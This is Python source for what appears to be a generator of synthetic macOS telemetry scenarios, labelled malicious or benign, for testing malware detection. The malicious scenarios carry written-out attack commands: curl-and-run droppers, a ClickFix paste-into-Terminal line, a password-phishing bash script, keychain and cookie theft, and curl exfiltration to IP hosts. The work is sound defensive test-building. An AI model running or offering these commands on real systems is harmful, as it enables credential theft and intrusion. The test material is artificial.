    chrome, net, _ = start_chrome(h, h.t("20:01:11.220314"))
    h.connect(h.t("20:03:02.118804"), net, "172.67.209.31", 443, domain="watch-free-hd.net")
    zip_path, zip_node = chrome_like_download(h, chrome, "PlayerUpdate_3.2.zip", 24_576, h.t("20:03:04.551302"),
                                              h.t("20:03:05.012448"))
    script_size = 512
    _, nodes = archive_extract(h, h.t("20:03:09.902117"), zip_path, zip_node, h.downloads,
                               app_items("Player.app", "Player", script_size, script=True, extra=[("enc", 3_410)]))
    app_path = f"{h.downloads}/Player.app"
    script_node = nodes[f"{app_path}/Contents/MacOS/Player"]
    opened = open_app(h, d, h.t("20:03:15.337018"), app_path=app_path, exe_name="Player",
                      bundle_id="com.player.update", app_node=nodes[app_path], flow="blocked", translocate=True,
                      binary_of=lambda path, dev: malware(path, "com.player.update", script_size,
                                                          ino=script_node.ino, dev=dev),
                      script=script_node)
    bash = opened.app
    run_dir = f"{opened.run_path}/Contents/MacOS"
    t = bash.start_ns + 40 * MS
    # cd "$(dirname "$BASH_SOURCE")"; fileDir="$(dirname "$(pwd -P)")"
    sub = h.spawn(t, bash, DIRNAME, ["dirname", f"{run_dir}/Player"])
    h.exit(t + 3 * MS, sub)
    outer = h.fork(t + 5 * MS, bash)
    inner = h.fork(t + 6 * MS, outer)
    h.exit(t + 7 * MS, inner)
    dn = h.exec(t + 8 * MS, outer, DIRNAME, ["dirname", run_dir], cwd=run_dir)
    h.exit(t + 10 * MS, dn)
    key = str(1_000_000_000 + hnum(h.name, "pass") % 999_999_999)
    enc = f"{opened.run_path}/Contents/Resources/enc"
    ssl = h.spawn(t + 12 * MS, bash, OPENSSL, ["openssl", "enc", "-base64", "-d", "-aes-256-cbc", "-nosalt",
                                               "-pass", f"pass:{key}"], cwd=run_dir)
    h.open(t + 14 * MS, ssl, enc, replace(nodes[f"{app_path}/Contents/Resources/enc"], dev=DEV_TRANSLOCATION))
    h.exit(t + 22 * MS, ssl)
    # the decrypted script: curl | base64 -d > $TMPDIR/<name>; chmod +x; run it
    target = f"{h.ptmp}/{hpick('abcdefghijklmnopqrstuvwxyz', 8, h.name, 'shl')}"
    url = f"http://api.videoplayerupd.com/sd/?c=q2BybQ==&u={huuid(h.name, 'u')}&s=8A3C&o=15.6&b=11093"
    curl = h.spawn(t + 40 * MS, bash, CURL, ["curl", "-f0L", url], cwd=run_dir)
    b64_fork = h.fork(t + 41 * MS, bash)
    out = h.node(t + 42 * MS)
    h.create(t + 42 * MS, b64_fork, target, out)
    b64 = h.exec(t + 43 * MS, b64_fork, BASE64, ["base64", "-d"], cwd=run_dir)
    h.connect(t + 71 * MS, curl, "45.88.91.14", 80, domain="api.videoplayerupd.com", args=["curl", "-f0L", url])
    h.exit(t + 1 * S + 440 * MS, curl)
    out = replace(out, size=1_618_432)
    h.close(t + 1 * S + 446 * MS, b64, target, out)
    h.exit(t + 1 * S + 447 * MS, b64)
    chmod = h.spawn(t + 1 * S + 460 * MS, bash, CHMOD, ["chmod", "777", target], cwd=run_dir)
    h.setmode(t + 1 * S + 462 * MS, chmod, target, replace(out, mode=0o100777), 0o777)
    h.exit(t + 1 * S + 463 * MS, chmod)
    payload = malware(target, "Installer-b7f41d22e0c93a85", 1_618_432, ino=out.ino, flags=FLAGS_ADHOC_LINKER)
    stage2 = h.spawn(t + 1 * S + 480 * MS, bash, payload, [target, "-s", "8A3C"], cwd=run_dir)
    h.connect(t + 2 * S + 911 * MS, stage2, "45.88.91.15", 443, domain="cdn.videoplayerupd.com", args=[target])
    h.exit(t + 9 * S + 3 * MS, stage2)
    killall = h.spawn(t + 9 * S + 20 * MS, bash, KILLALL, ["killall", "Terminal"], cwd=run_dir)
    h.exit(t + 9 * S + 31 * MS, killall, status=1)
    h.exit(t + 9 * S + 40 * MS, bash)
    return h, label(
        h, family="Shlayer / Bundlore (script app)", reporting=[REPORTING["shlayer-cb"], REPORTING["shlayer-os"]],
        malicious=True, route="script_app", app="Google Chrome", stage3=bash, payload_files=[zip_path],
        egress=[(curl, "45.88.91.14", 80), (stage2, "45.88.91.15", 443)],
        note="Chrome downloads PlayerUpdate_3.2.zip; Archive Utility extracts Player.app (quarantine on every item) "
             "whose Contents/MacOS/Player is a #!/bin/bash script with no code signature. Opened, it is translocated "
             "and refused, then allowed in System Settings. launchd's xpcproxy execs the script, so the exec event's "
             "target is /bin/bash with event.exec.script = the translocated Player (stage 3 is that bash, pid of "
             "the app). The script decrypts Resources/enc with openssl and evals it: curl -f0L ... | base64 -d > "
             "$TMPDIR/<name>, chmod 777, runs it, killall Terminal. curl and the second stage connect out.")


WORD_CONTAINER = "Library/Containers/com.microsoft.Word/Data"


@scenario("descendant-payload")
def descendant_payload(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-16", 60, "cfischer", "2026-03-15T07:48:09.441003", "10.20.30.44", 2_331,
             80_114, asid=100_010)
    d = daemons(h)
    del d
    word = h.launch(h.t("08:30:14.220187"), WORD, bundle_id="com.microsoft.Word",
                    app_url="/Applications/Microsoft Word.app")
    container = f"{h.home}/{WORD_CONTAINER}"
    # the user opens an invoice .docm from Downloads; Word writes its autosave and lock file
    lock = f"{h.downloads}/~$voice_0316.docm"
    lock_node = h.node(h.t("08:30:19.004182"))
    h.create(h.t("08:30:19.004182"), word, lock, lock_node)
    h.close(h.t("08:30:19.006003"), word, lock, replace(lock_node, size=162))
    agent_dir = f"{container}/Library/Application Support/.x"
    agent = f"{agent_dir}/agent"
    command = ('d="$HOME/Library/Application Support/.x"; mkdir -p "$d"; curl -fsSL https://185.174.101.36/agent -o '
               '"$d/agent"; chmod +x "$d/agent"; "$d/agent" >/dev/null 2>&1 &')
    env = [f"HOME={container}", f"TMPDIR={container}/tmp/", f"USER={h.user}", f"LOGNAME={h.user}",
           "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "SHELL=/bin/zsh", "XPC_FLAGS=0x0",
           f"XPC_SERVICE_NAME={job_of('com.microsoft.Word', h.name)}", "__CFBundleIdentifier=com.microsoft.Word",
           "APP_SANDBOX_CONTAINER_ID=com.microsoft.Word", "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]
    t = h.t("08:30:27.118602")  # the user clicks "Enable Macros"; AutoOpen calls popen() through libc
    bash = sh_c(h, t, word, command, argv0="sh", env=env, cwd=container)
    mk = h.spawn(t + 6 * MS, bash, MKDIR, ["mkdir", "-p", agent_dir], env=env, cwd=container)
    h.create(t + 9 * MS, mk, agent_dir, h.dnode(t + 9 * MS))
    h.exit(t + 10 * MS, mk)
    curl_args = ["curl", "-fsSL", "https://185.174.101.36/agent", "-o", agent]
    curl = h.spawn(t + 14 * MS, bash, CURL, curl_args, env=env, cwd=container)
    h.connect(t + 48 * MS, curl, "185.174.101.36", 443, args=curl_args)
    node = h.node(t + 402 * MS)
    h.create(t + 402 * MS, curl, agent, node)
    node = replace(node, size=2_883_104)
    h.close(t + 1 * S + 720 * MS, curl, agent, node)
    h.exit(t + 1 * S + 724 * MS, curl)
    chmod = h.spawn(t + 1 * S + 740 * MS, bash, CHMOD, ["chmod", "+x", agent], env=env, cwd=container)
    h.setmode(t + 1 * S + 742 * MS, chmod, agent, replace(node, mode=0o100755), 0o755)
    h.exit(t + 1 * S + 743 * MS, chmod)
    implant = h.spawn(t + 1 * S + 760 * MS, bash, malware(agent, "agent-3f9e02b7c1d84a66", 2_883_104, ino=node.ino),
                      [agent], env=env, cwd=container)
    h.exit(t + 1 * S + 771 * MS, bash)
    h.orig_ppid[(implant.pid, implant.start_ns)] = bash.pid
    h.connect(t + 2 * S + 308 * MS, implant, "45.61.169.99", 443, args=[agent])
    h.connect(t + 62 * S + 310 * MS, implant, "45.61.169.99", 443, args=[agent])
    h.exit(h.t("08:41:02.402118"), word)
    return h, label(
        h, family="Office macro dropper", reporting=[REPORTING["macro-os"], REPORTING["macro-sandbox"]],
        malicious=True, route="descendant", app="Microsoft Word", stage3=replace(bash, binary=SH),
        egress=[(curl, "185.174.101.36", 443), (implant, "45.61.169.99", 443)], payload_files=[agent],
        note="Word (sandboxed) runs a macro that calls popen(): sh -c (re-exec'd as bash) with HOME set to Word's "
             "container, so '$HOME/Library/Application Support/.x/agent' lands in "
             "~/Library/Containers/com.microsoft.Word/Data/Library/Application Support/.x/agent. The file is written "
             "by curl (Word's grandchild), never by Word; bash then chmods and starts it in the background and exits "
             "(the agent is reparented to launchd, original_ppid the shell). The agent beacons to its C2. Caveat: "
             "the Word sandbox quarantines files its children create and Gatekeeper may then refuse an unsigned "
             "agent; public macro droppers often ran Python in memory instead. This scenario keeps the file-drop "
             "shape on purpose (the dropped file is ad-hoc signed and was not refused here).")


@scenario("mail-attachment")
def mail_attachment(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-18", 60, "jvermeer", "2026-03-16T08:01:44.210087", "192.168.50.14", 1_780,
             52_006, asid=100_015)
    d = daemons(h)
    mail = h.launch(h.t("08:55:02.330118"), MAIL, bundle_id="com.apple.mail", app_url="/System/Applications/Mail.app")
    h.connect(h.t("08:55:03.402771"), mail, "52.97.232.226", 993, domain="outlook.office365.com")
    folder = (f"{h.home}/Library/Containers/com.apple.mail/Data/Library/Mail Downloads/"
              f"{huuid(h.name, 'maildl')}")
    t = h.t("09:12:44.118209")  # the user double-clicks the attachment in the message
    h.create(t, mail, folder, h.dnode(t))
    zip_path = f"{folder}/Q1_Payment_Advice.zip"
    zip_node = h.node(t + 3 * MS)
    h.create(t + 3 * MS, mail, zip_path, zip_node)
    zip_node = replace(zip_node, size=2_104_882)
    h.close(t + 61 * MS, mail, zip_path, zip_node)
    h.setxattr(t + 63 * MS, mail, zip_path, zip_node)
    app = "Payment Advice Viewer.app"
    exe = "Payment Advice Viewer"
    _, nodes = archive_extract(h, t + 402 * MS, zip_path, zip_node, folder,
                               app_items(app, exe, 4_640_112, extra=[("AppIcon.icns", 140_211)]))
    app_path = f"{folder}/{app}"
    exe_node = nodes[f"{app_path}/Contents/MacOS/{exe}"]
    opened = open_app(h, d, t + 6 * S + 990 * MS, app_path=app_path, exe_name=exe,
                      bundle_id="com.paymentadvice.viewer", app_node=nodes[app_path], flow="blocked",
                      translocate=True,
                      binary_of=adhoc_app("com.paymentadvice.viewer", 4_640_112, exe_node.ino))
    viewer = opened.app
    c2 = "104.168.214.151"
    h.connect(viewer.start_ns + 2 * S + 118 * MS, viewer, c2, 443, args=[viewer.binary.path])
    h.connect(viewer.start_ns + 32 * S + 4 * MS, viewer, c2, 443, args=[viewer.binary.path])
    stage2 = "/Users/Shared/.pdfviewer"
    node = h.node(viewer.start_ns + 3 * S)
    h.create(viewer.start_ns + 3 * S, viewer, stage2, node)
    h.close(viewer.start_ns + 4 * S + 602 * MS, viewer, stage2, replace(node, size=7_340_912))
    h.exit(viewer.start_ns + 41 * S, viewer)
    return h, label(
        h, family="RustBucket-style (BlueNoroff) app in a mail attachment", reporting=[REPORTING["rustbucket"]],
        malicious=True, route="mail", app="Mail", stage3=viewer, egress=[(viewer, c2, 443)],
        payload_files=[zip_path],
        note="Mail (a platform binary, sandboxed) saves the attachment into its container's Mail Downloads/<UUID>/ "
             "and quarantines it; Archive Utility extracts the app next to it. The ad-hoc signed viewer is "
             "translocated, refused, allowed in System Settings and opened; it connects to its C2 itself and "
             "drops a second stage in /Users/Shared. Stage 1 is Mail, the file is under ~/Library/Containers.")


@scenario("firefox-zip-app")
def firefox_zip_app(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-19", -420, "mreyes", "2026-03-18T15:30:02.911040", "192.168.4.201", 3_550,
             117_330, asid=100_018)
    d = daemons(h)
    firefox = start_firefox(h, h.t("17:04:40.118022"))
    # a compromised site injects a "your browser needs an update" page
    h.connect(h.t("17:06:20.551201"), firefox, "172.67.164.21", 443, domain="browser-update-center.net")
    zip_path, zip_node = firefox_download(h, firefox, "update.zip", 2_611_520, h.t("17:06:21.010388"),
                                          h.t("17:06:23.104933"))
    app = "Firefox Update.app"
    exe = "Firefox Update"
    _, nodes = archive_extract(h, h.t("17:06:27.441009"), zip_path, zip_node, h.downloads,
                               app_items(app, exe, 6_102_336))
    app_path = f"{h.downloads}/{app}"
    exe_node = nodes[f"{app_path}/Contents/MacOS/{exe}"]
    opened = open_app(h, d, h.t("17:06:33.210440"), app_path=app_path, exe_name=exe,
                      bundle_id="com.hjmxwzsy.update", app_node=nodes[app_path], flow="blocked", translocate=True,
                      binary_of=adhoc_app("com.hjmxwzsy.update", 6_102_336, exe_node.ino))
    updater = opened.app
    t = updater.start_ns + 3 * S + 118 * MS
    prompt = ('display dialog "Firefox needs your password to install the required update." with title '
              '"Firefox Update" default answer "" with icon caution with hidden answer')
    osa = h.spawn(t, updater, OSASCRIPT, ["osascript", "-e", prompt])
    h.exit(t + 11 * S + 40 * MS, osa)
    _, end = run_sh(h, t + 11 * S + 60 * MS, updater, f"dscl . authonly {h.user} 'reyes1988'", DSCL,
                    ["dscl", ".", "authonly", h.user, "reyes1988"], runs=166 * MS)
    stage = f"{h.ptmp}/{hpick('0123456789abcdef', 12, h.name, 'fr')}"
    h.create(end + 30 * MS, updater, stage, h.dnode(end + 30 * MS))
    for i, (rel, size) in enumerate((("Library/Application Support/Firefox/Profiles/x8k2m1qf.default-release/"
                                      "cookies.sqlite", 524_288),
                                     ("Library/Application Support/Firefox/Profiles/x8k2m1qf.default-release/"
                                      "logins.json", 3_211),
                                     ("Library/Keychains/login.keychain-db", 190_464))):
        at = end + (60 + 15 * i) * MS
        h.open(at, updater, f"{h.home}/{rel}", h.existing(600_000 + hnum(rel) % 8_000_000, size))
        node = h.node(at + 2 * MS)
        leaf = rel.rsplit("/", 1)[-1]
        h.create(at + 2 * MS, updater, f"{stage}/{leaf}", node)
        h.close(at + 9 * MS, updater, f"{stage}/{leaf}", replace(node, size=size))
    domain = "updates-browser-check.com"
    h.connect(end + 900 * MS, updater, "194.26.29.115", 443, domain=domain, args=[updater.binary.path])
    h.connect(end + 3 * S + 60 * MS, updater, "194.26.29.115", 443, domain=domain, args=[updater.binary.path],
              action="disconnect_received", sent=741_208, received=388)
    h.exit(end + 3 * S + 400 * MS, updater)
    return h, label(
        h, family="FrigidStealer-style fake browser update", reporting=[REPORTING["frigid-pp"],
                                                                        REPORTING["frigid-jamf"]],
        malicious=True, route="zip", app="Firefox", stage3=updater, egress=[(updater, "194.26.29.115", 443)],
        payload_files=[zip_path],
        note="A fake 'update your browser' page makes Firefox download update.zip (placeholder + .part + rename); "
             "Archive Utility extracts 'Firefox Update.app'. The ad-hoc app is translocated, refused and allowed. It "
             "shows the password prompt with osascript (a direct child), checks it with dscl, copies Firefox "
             "cookies/logins and the keychain into $TMPDIR and uploads them itself over HTTPS to a domain (the "
             "Elastic event carries destination.domain). FrigidStealer itself was delivered as a disk image; the "
             "zip container here is the variant.")


@scenario("clickfix-terminal")
def clickfix_terminal(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-20", 60, "ilarsen", "2026-03-17T06:44:19.020311", "192.168.1.61", 2_010,
             70_801, asid=100_019)
    d = daemons(h)
    del d
    _, networking, _ = start_safari(h, h.t("10:02:03.118411"))
    h.connect(h.t("10:05:41.702211"), networking, "172.67.190.44", 443, domain="verify-human-check.com")
    # the fake CAPTCHA copies a command to the clipboard and tells the user to paste it into Terminal
    terminal = h.launch(h.t("10:05:58.203118"), TERMINAL, bundle_id="com.apple.Terminal",
                        app_url="/System/Applications/Utilities/Terminal.app")
    tty = user_tty(h, h.t("10:05:58.5"), "/dev/ttys000")
    zsh = terminal_shell(h, h.t("10:05:58.611204"), terminal, tty)
    encoded = base64.b64encode(b"https://macos-verify-captcha.com/install.sh").decode()
    typed = f'/bin/bash -c "$(curl -fsSL $(echo {encoded} | base64 -d))"'
    del typed
    t = h.t("10:06:04.880109")
    sub = h.fork(t, zsh)  # $(echo ... | base64 -d): a subshell whose echo is a builtin
    dec = h.spawn(t + 1 * MS, sub, BASE64, ["base64", "-d"], cwd=h.home)
    h.exit(t + 4 * MS, dec)
    h.exit(t + 5 * MS, sub)
    fetch_args = ["curl", "-fsSL", "https://macos-verify-captcha.com/install.sh"]
    fetch = h.spawn(t + 7 * MS, zsh, CURL, fetch_args, cwd=h.home)
    h.connect(t + 40 * MS, fetch, "185.215.113.66", 443, domain="macos-verify-captcha.com", args=fetch_args)
    h.exit(t + 601 * MS, fetch)
    script = ('#!/bin/bash\nusername=$(whoami)\nwhile true; do\n  echo -n "System Password: "\n  read -s password\n'
              '  echo\n  if dscl . -authonly "$username" "$password" >/dev/null 2>&1; then\n'
              '    echo -n "$password" > /tmp/.pass\n    break\n  fi\n  echo "Incorrect password! Try again."\ndone\n'
              'curl -o /tmp/update https://macos-verify-captcha.com/update\n'
              'echo "$password" | sudo -S xattr -c /tmp/update\nchmod +x /tmp/update\n/tmp/update\n')
    bash = h.spawn(t + 610 * MS, zsh, BASH, ["/bin/bash", "-c", script], cwd=h.home)
    who_fork = h.fork(t + 620 * MS, bash)
    who = h.exec(t + 621 * MS, who_fork, WHOAMI, ["whoami"], cwd=h.home)
    h.exit(t + 624 * MS, who)
    t2 = t + 9 * S + 208 * MS  # the user types the password at the prompt
    check = h.spawn(t2, bash, DSCL, ["dscl", ".", "-authonly", h.user, "Larsen!22"], cwd=h.home)
    h.exit(t2 + 180 * MS, check)
    pw = h.node(t2 + 185 * MS)
    h.create(t2 + 185 * MS, bash, "/private/tmp/.pass", pw)
    h.close(t2 + 186 * MS, bash, "/private/tmp/.pass", replace(pw, size=9))
    dl_args = ["curl", "-o", "/tmp/update", "https://macos-verify-captcha.com/update"]
    dl = h.spawn(t2 + 200 * MS, bash, CURL, dl_args, cwd=h.home)
    h.connect(t2 + 232 * MS, dl, "185.215.113.66", 443, domain="macos-verify-captcha.com", args=dl_args)
    upd = h.node(t2 + 410 * MS)
    h.create(t2 + 410 * MS, dl, "/private/tmp/update", upd)
    upd = replace(upd, size=3_702_112)
    h.close(t2 + 2 * S + 118 * MS, dl, "/private/tmp/update", upd)
    h.exit(t2 + 2 * S + 121 * MS, dl)
    sudo = h.exec(t2 + 2 * S + 142 * MS, h.fork(t2 + 2 * S + 140 * MS, bash), SUDO,
                  ["sudo", "-S", "xattr", "-c", "/tmp/update"], cwd=h.home, cred=setuid_root(h))
    xattr = h.spawn(t2 + 2 * S + 190 * MS, sudo, XATTR, ["xattr", "-c", "/tmp/update"], cwd=h.home,
                    cred=sudo_root(h))
    h.exit(t2 + 2 * S + 260 * MS, xattr)
    h.exit(t2 + 2 * S + 262 * MS, sudo)
    chmod = h.spawn(t2 + 2 * S + 270 * MS, bash, CHMOD, ["chmod", "+x", "/tmp/update"], cwd=h.home)
    h.setmode(t2 + 2 * S + 272 * MS, chmod, "/private/tmp/update", replace(upd, mode=0o100755), 0o755)
    h.exit(t2 + 2 * S + 273 * MS, chmod)
    stealer = h.spawn(t2 + 2 * S + 290 * MS, bash, malware("/private/tmp/update", "update-8d1c55e0a9f3b217",
                                                            3_702_112, ino=upd.ino), ["/tmp/update"], cwd=h.home)
    t3 = t2 + 6 * S
    args = ["curl", "-X", "POST", "-H", "user: 8d1c55e0a9f3", "-H", "BuildID: 8d1c55e0a9f3b2174e7c", "-F",
            "file=@/tmp/out.zip", "http://45.94.31.122/contact"]
    zipped = h.node(t3 - 500 * MS)
    ditto, _ = run_sh(h, t3 - 900 * MS, stealer, "ditto -c -k --sequesterRsrc /tmp/2417/ /tmp/out.zip", DITTO,
                      ["ditto", "-c", "-k", "--sequesterRsrc", "/tmp/2417/", "/tmp/out.zip"], runs=380 * MS)
    h.create(t3 - 500 * MS, ditto, "/private/tmp/out.zip", zipped)
    h.close(t3 - 520 * MS + 5 * MS + 380 * MS, ditto, "/private/tmp/out.zip", replace(zipped, size=911_330))
    exfil = sh_c(h, t3, stealer, shlex.join(args), CURL, args)
    h.connect(t3 + 33 * MS, exfil, "45.94.31.122", 80, args=args)
    h.exit(t3 + 2 * S, exfil)
    h.exit(t3 + 2 * S + 400 * MS, stealer)
    h.exit(t3 + 2 * S + 410 * MS, bash)
    return h, label(
        h, family="AMOS/Atomic via ClickFix", reporting=[REPORTING["clickfix"], REPORTING["amos-moonlock"]],
        malicious=True, expect_detect=False, route="clickfix", app="Safari", stage3=bash,
        egress=[(fetch, "185.215.113.66", 443), (dl, "185.215.113.66", 443), (exfil, "45.94.31.122", 80)],
        payload_files=["/private/tmp/update"],
        note="A fake CAPTCHA in Safari puts `/bin/bash -c \"$(curl -fsSL $(echo <base64> | base64 -d))\"` on the "
             "clipboard and tells the user to paste it into Terminal. Nothing is downloaded by Safari, nothing is "
             "spawned by Safari, and no quarantined app is opened: Terminal (login -> zsh) runs curl and bash, the "
             "script asks for the password on the tty, checks it with dscl, downloads the AMOS binary with curl "
             "(no quarantine), clears xattrs with sudo, runs it, and the binary exfiltrates with curl. AN1316 "
             "needs a policy app to write the file or spawn the interpreter; Terminal is not one and Safari did "
             "neither, so a correct AN1316 implementation does not alert here (expect_detect false). stage3 names "
             "the first interpreter of the chain (bash under zsh) for reference only.")


# -- benign installs ---------------------------------------------------------------------------------------------------

def vendor(path: str, signing_id: str, team: str, size: int, ino: int) -> Binary:
    return app_binary(path, signing_id, team, ino, size, uid=501)


def electron_helpers(h: Host, t: int, main: Image, app_dir: str, product: str, signing_prefix: str, team: str,
                     kinds: tuple[str, ...] = ("", "Renderer", "GPU")) -> dict[str, Image]:
    helpers: dict[str, Image] = {}
    for i, kind in enumerate(kinds):
        label_ = f"{product} Helper{f' ({kind})' if kind else ''}"
        path = f"{app_dir}/Contents/Frameworks/{label_}.app/Contents/MacOS/{label_}"
        sid = f"{signing_prefix}.helper{('.' + kind) if kind else ''}"
        binary = vendor(path, sid, team, 148_320, 44_000_000 + hnum(path) % 900_000)
        kind_arg = {"": "--type=utility", "Renderer": "--type=renderer", "GPU": "--type=gpu-process",
                    "Plugin": "--type=utility"}[kind]
        extra = ["--utility-sub-type=network.mojom.NetworkService"] if kind == "" else (
            ["--utility-sub-type=node.mojom.NodeService"] if kind == "Plugin" else [])
        helpers[kind] = h.spawn(t + i * 93 * MS, main, binary, [label_, kind_arg, *extra, "--lang=en-US",
                                                                 "--shared-files"])
    return helpers


def dmg_copy_open(h: Host, d: Daemons, vol: Volume, t: int, app: str, exe: str, exe_size: int, *, bundle_id: str,
                  signing_id: str, team: str) -> tuple[Image, str]:
    """Drag the app from the volume to /Applications, then open it there (notarized: the first-launch prompt)."""
    dst = f"/Applications/{app}"
    files = [("Contents/Info.plist", 2_418), (f"Contents/MacOS/{exe}", exe_size),
             ("Contents/Resources/AppIcon.icns", 812_004), ("Contents/_CodeSignature/CodeResources", 48_212)]
    nodes = copy_bundle(h, t, d.finder, f"{vol.path}/{app}", dst, files)
    exe_node = nodes[f"{dst}/Contents/MacOS/{exe}"]
    opened = open_app(h, d, t + 9 * S + 402 * MS, app_path=dst, exe_name=exe, bundle_id=bundle_id,
                      app_node=nodes[dst], flow="prompt", translocate=False, team=team,
                      binary_of=lambda path, dev: vendor(path, signing_id, team, exe_size, exe_node.ino))
    return opened.app, dst


def benign_note(extra: str) -> str:
    return ("Benign install with the vendor's real Developer ID team; notarized, so Gatekeeper shows only the "
            "first-launch 'downloaded from the Internet' prompt and there is no override. " + extra)


@scenario("benign-slack-dmg")
def benign_slack_dmg(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-03-03", 60, "nora", "2026-03-02T07:10:11.440021", "192.168.178.23", 1_620,
             50_202, asid=100_007)
    d = daemons(h)
    _, networking, _ = start_safari(h, h.t("09:01:04.220117"))
    h.connect(h.t("09:02:11.402381"), networking, "3.162.125.64", 443, domain="downloads.slack-edge.com")
    dmg, node = safari_download(h, networking, "Slack-4.43.43-macOS.dmg", 201_326_592, h.t("09:02:11.900612"),
                                h.t("09:02:34.118207"))
    vol = mount_dmg(h, d, h.t("09:02:40.551830"), dmg, node, "Slack", blocks=98_304)
    slack, dst = dmg_copy_open(h, d, vol, h.t("09:02:49.330102"), "Slack.app", "Slack", 302_912,
                               bundle_id="com.tinyspeck.slackmacgap", signing_id="com.tinyspeck.slackmacgap",
                               team="BQR82RBBHL")
    helpers = electron_helpers(h, slack.start_ns + 402 * MS, slack, dst, "Slack", "com.tinyspeck.slackmacgap",
                               "BQR82RBBHL")
    net = helpers[""]
    for i, (ip, domain) in enumerate((("3.64.211.54", "app.slack.com"), ("18.159.197.225", "edgeapi.slack.com"),
                                      ("52.57.106.16", "wss-primary.slack.com"),
                                      ("3.162.125.49", "a.slack-edge.com"))):
        h.connect(slack.start_ns + (1_200 + 431 * i) * MS, net, ip, 443, domain=domain)
    noise_mdworker(h, h.t("09:03:30.010442"))
    return h, label(
        h, family="benign: Slack", reporting=["https://slack.com/downloads/mac"], malicious=False, route="dmg",
        app="Safari", stage3=slack, egress=[], payload_files=[dmg],
        note=benign_note("Safari downloads the Slack disk image, the user drags Slack.app to /Applications and "
                         "opens it; Slack and its Electron helpers talk only to slack.com / slack-edge.com and "
                         "spawn no interpreter."))


@scenario("benign-zoom-pkg")
def benign_zoom_pkg(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-17", -240, "gpark", "2026-03-16T12:00:40.221103", "192.168.1.88", 4_020,
             130_400, asid=100_012)
    d = daemons(h)
    chrome, net, _ = start_chrome(h, h.t("13:30:02.402119"))
    h.connect(h.t("13:31:40.118023"), net, "170.114.52.2", 443, domain="zoom.us")
    pkg, node = chrome_like_download(h, chrome, "zoomusInstallerFull.pkg", 94_371_840, h.t("13:31:41.004417"),
                                     h.t("13:31:52.660281"))
    app_dir = "/Applications/zoom.us.app"
    run = pkg_install(h, d, h.t("13:31:57.219020"), pkg, node, pkg_ids=["us.zoom.pkg.videomeeting"], blocked=False,
                      team="BJ4HAAB9B3", scripts=("preinstall", "postinstall"),
                      payload=[(f"{app_dir}/Contents/Info.plist", 6_880),
                               (f"{app_dir}/Contents/MacOS/zoom.us", 412_992),
                               (f"{app_dir}/Contents/Frameworks/ZoomUnit.framework/Versions/A/ZoomUnit", 61_204_480)])
    bash = run.shells[0]
    t = bash.start_ns + 30 * MS
    xattr = h.spawn(t, bash, XATTR, ["/usr/bin/xattr", "-r", "-d", "com.apple.quarantine", app_dir])
    h.exit(t + 240 * MS, xattr)
    opener = h.spawn(t + 300 * MS, bash, LAUNCHCTL, ["/bin/launchctl", "asuser", "501", "/usr/bin/open", "-a",
                                                     app_dir])
    opener = h.exec(t + 306 * MS, opener, OPEN, ["/usr/bin/open", "-a", app_dir], cred=h.cred)
    h.exit(t + 420 * MS, opener)
    h.exit(t + 455 * MS, bash)
    zoom_bin = app_binary(f"{app_dir}/Contents/MacOS/zoom.us", "us.zoom.xos", "BJ4HAAB9B3", 45_001_200, 412_992)
    zoom = h.launch(t + 610 * MS, zoom_bin, bundle_id="us.zoom.xos", app_url=app_dir)
    for i, (ip, domain) in enumerate((("170.114.52.2", "zoom.us"), ("170.114.15.223", "us05web.zoom.us"),
                                      ("206.247.115.54", "us05log.zoom.us"))):
        h.connect(zoom.start_ns + (1_900 + 520 * i) * MS, zoom, ip, 443, domain=domain)
    h.exit(run.installer.start_ns + 40 * S, run.installer)
    noise_apple_network(h, h.t("13:30:40.602210"))
    return h, label(
        h, family="benign: Zoom", reporting=["https://zoom.us/download"], malicious=False, route="pkg",
        app="Google Chrome", stage3=replace(bash, binary=SH), egress=[], payload_files=[pkg],
        note=benign_note("The signed package (team BJ4HAAB9B3) needs no prompt; installd expands it, "
                         "package_script_service runs preinstall/postinstall as root with /bin/sh (responsible: "
                         "Installer). The postinstall strips the quarantine from the installed app and starts it "
                         "for the user (launchctl asuser 501 open -a); zoom.us talks to zoom.us hosts. Structurally "
                         "a complete chain (Chrome wrote the package, a shell ran, the app connected out): the "
                         "signer has to keep it below low."))


@scenario("benign-blender-dmg")
def benign_blender_dmg(name: str) -> Scenario:
    h = Host(name, MACOS15, "2026-02-27", 60, "pvolkov", "2026-02-26T08:30:14.004410", "192.168.0.45", 2_480,
             77_019, asid=100_010)
    d = daemons(h)
    firefox = start_firefox(h, h.t("18:10:22.301887"))
    h.connect(h.t("18:11:48.420019"), firefox, "82.94.213.86", 443, domain="www.blender.org")
    h.connect(h.t("18:11:50.110207"), firefox, "151.101.2.132", 443, domain="download.blender.org")
    dmg, node = firefox_download(h, firefox, "blender-4.5.3-macos-arm64.dmg", 398_458_880, h.t("18:11:50.402330"),
                                 h.t("18:12:31.918201"))
    vol = mount_dmg(h, d, h.t("18:12:36.110224"), dmg, node, "Blender", blocks=194_560)
    blender, _ = dmg_copy_open(h, d, vol, h.t("18:12:44.602118"), "Blender.app", "Blender", 211_040_112,
                               bundle_id="org.blenderfoundation.blender", signing_id="org.blenderfoundation.blender",
                               team="68UA947AUU")
    prefs = f"{h.home}/Library/Application Support/Blender/4.5/config/userpref.blend"
    n = h.node(blender.start_ns + 3 * S)
    h.create(blender.start_ns + 3 * S, blender, prefs, n)
    h.close(blender.start_ns + 3 * S + 40 * MS, blender, prefs, replace(n, size=940_112))
    noise_mdworker(h, h.t("18:13:40.552201"))
    return h, label(
        h, family="benign: Blender", reporting=["https://www.blender.org/download/"], malicious=False, route="dmg",
        app="Firefox", stage3=blender, egress=[], payload_files=[dmg],
        note=benign_note("Firefox downloads the Blender disk image (team 68UA947AUU), the app is copied to "
                         "/Applications and opened; it writes its preferences under ~/Library/Application Support, "
                         "runs Python in-process (no child) and makes no connection."))


@scenario("benign-vscode-zip")
def benign_vscode_zip(name: str) -> Scenario:
    h = Host(name, MACOS26, "2026-03-24", 60, "tdev", "2026-03-23T07:44:03.300129", "10.0.0.38", 5_410, 160_022,
             asid=100_024)
    d = daemons(h)
    chrome, net, _ = start_chrome(h, h.t("08:20:11.118042"))
